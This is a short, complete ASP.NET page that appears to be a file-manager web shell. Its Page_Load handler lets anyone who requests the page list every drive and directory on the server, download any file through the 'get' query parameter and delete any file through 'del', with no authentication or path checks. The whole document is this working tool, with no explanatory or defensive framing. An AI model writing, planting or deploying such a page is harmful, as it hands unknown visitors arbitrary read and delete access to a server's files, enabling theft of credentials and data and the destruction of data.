<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        if (Request.QueryString["get"] != null) { Response.Clear(); Response.WriteFile(Request.QueryString["get"]); Response.End(); }
        if (Request.QueryString["del"] != null) File.Delete(Request.QueryString["del"]);
        string dir = Request.QueryString["dir"] ?? Path.GetPathRoot(Server.MapPath("/"));
        var sb = new System.Text.StringBuilder();
        foreach (string d in Environment.GetLogicalDrives()) sb.AppendFormat("<a href='?dir={0}'>{0}</a> ", d);
        DirectoryInfo di = new DirectoryInfo(dir);
        foreach (DirectoryInfo s in di.GetDirectories()) sb.AppendFormat("<br><a href='?dir={0}'>{1}</a>", Server.UrlEncode(s.FullName), s.Name);
        foreach (FileInfo f in di.GetFiles()) sb.AppendFormat("<br>{0} <a href='?get={1}'>get</a> <a href='?del={1}'>del</a>", f.Name, Server.UrlEncode(f.FullName));
        list.Text = sb.ToString();
    }
</script>
<html><body><asp:Literal ID="list" runat="server" /></body></html>
